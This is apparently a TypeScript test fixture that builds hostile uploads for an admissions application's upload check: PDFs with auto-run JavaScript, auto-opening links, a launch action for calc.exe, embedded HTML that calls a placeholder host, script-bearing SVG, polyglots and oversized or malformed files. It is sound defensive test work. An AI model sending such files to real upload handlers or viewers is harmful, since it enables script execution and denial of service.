import { crc32, deflateSync } from "node:zlib";
import type { DocumentMediaType } from "../../app/admissions/application.schema.ts";
import { plainPdf } from "./document.builder.ts";
import { pdfWith } from "./hostile-pdf.builder.ts";

export type HostileDocument = { name: string; mediaType: DocumentMediaType; content: Buffer };

/** A host that no page of ours may reach. */
export const FOREIGN_HOST = "hostile.invalid";

const SCRIPT = `app.alert(1); this.submitForm('http://${FOREIGN_HOST}/'); window.parent.hacked = true`;
const HTML = `<html><script>parent.hacked = true; fetch('http://${FOREIGN_HOST}/')</script></html>`;

/** Creates documents that the upload check rejects, as a flaw in it would let them through. */
export function hostileDocuments(): HostileDocument[] {
  return [
    pdf("a script that runs on opening", pdfWith({ catalog: `/OpenAction << /S /JavaScript /JS (${SCRIPT}) >>` })),
    pdf(
      "a link that opens by itself",
      pdfWith({ catalog: `/OpenAction << /S /URI /URI (http://${FOREIGN_HOST}/) >>` }),
    ),
    pdf("a program to start", pdfWith({ catalog: "/OpenAction << /S /Launch /F (calc.exe) >>" })),
    pdf(
      "a file inside",
      pdfWith({
        catalog: "/Names << /EmbeddedFiles << /Names [(a.html) 5 0 R] >> >>",
        objects: [
          "<< /Type /Filespec /F (a.html) /EF << /F 6 0 R >> >>",
          `<< /Type /EmbeddedFile /Length ${HTML.length} >>\nstream\n${HTML}\nendstream`,
        ],
      }),
    ),
    pdf("a page of a square kilometre", replaced(plainPdf("Huge"), "[0 0 595 842]", "[0 0 2834645 2834645]")),
    pdf("a page like a thread", replaced(plainPdf("Thin"), "[0 0 595 842]", "[0 0 1 14400]")),
    pdf("ten thousand pages", manyPages(10_000)),
    pdf("a tree of pages that contains itself", replaced(plainPdf("Loop"), "/Kids [3 0 R]", "/Kids [2 0 R]")),
    pdf("half of the file missing", plainPdf("Half").subarray(0, 300)),
    pdf("a page of a site before the document", Buffer.concat([Buffer.from(HTML), plainPdf("Polyglot")])),
    pdf("nothing but a page of a site", Buffer.from(HTML)),
    picture(
      "a drawing with a script",
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hacked = true"><script>parent.hacked = true</script></svg>`,
      ),
    ),
    picture("a page of a site", Buffer.from(HTML)),
    picture("four gigapixels", hugePng(65_535)),
  ];
}

function pdf(name: string, content: Buffer): HostileDocument {
  return { name, mediaType: "application/pdf", content };
}

function picture(name: string, content: Buffer): HostileDocument {
  return { name, mediaType: "image/png", content };
}

/** Replaces a part of a PDF. The positions in its table of objects are wrong then. */
function replaced(content: Buffer, part: string, by: string): Buffer {
  return Buffer.from(content.toString("latin1").replace(part, by), "latin1");
}

function manyPages(count: number): Buffer {
  const objects = Array.from({ length: count }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>");
  const kids = objects.map((_, index) => `${index + 5} 0 R`).join(" ");
  return replaced(pdfWith({ objects }), "/Kids [3 0 R] /Count 1", `/Kids [${kids}] /Count ${count}`);
}

/** Creates a PNG of a few bytes that claims to be `side` pixels wide and high. */
function hugePng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function chunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, sum]);
}
